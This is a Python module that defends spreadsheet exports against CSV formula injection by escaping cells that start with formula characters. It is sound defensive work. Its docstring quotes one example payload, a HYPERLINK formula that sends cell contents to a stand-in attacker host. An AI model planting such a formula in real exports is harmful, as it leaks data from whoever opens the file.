"""Spreadsheet-safe cells: the one function every XLSX and CSV export passes its values
through (the report's workbook and CSV tables, the CLI's ``--format csv`` lists).

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice and Sheets (OWASP, "CSV Injection"): a case id or a name
like ``=HYPERLINK("http://evil/?"&A1)`` from an input file would run when an auditor
opens the export. Such a cell gets a leading apostrophe, shown as text by every
spreadsheet. Numbers stay numbers: int, float and Decimal values pass unchanged, and so
does text that is only a number (``-12.50``, ``+3``), which no spreadsheet evaluates as
anything but that number. Control characters an XLSX cannot hold are escaped as ``\\xNN``.
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d[\d,]*)(\.\d+)?%?")
ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a spreadsheet cell (see the module docstring)."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL.sub(lambda m: f"\\x{ord(m.group()):02x}", value)
    if value.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: list[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
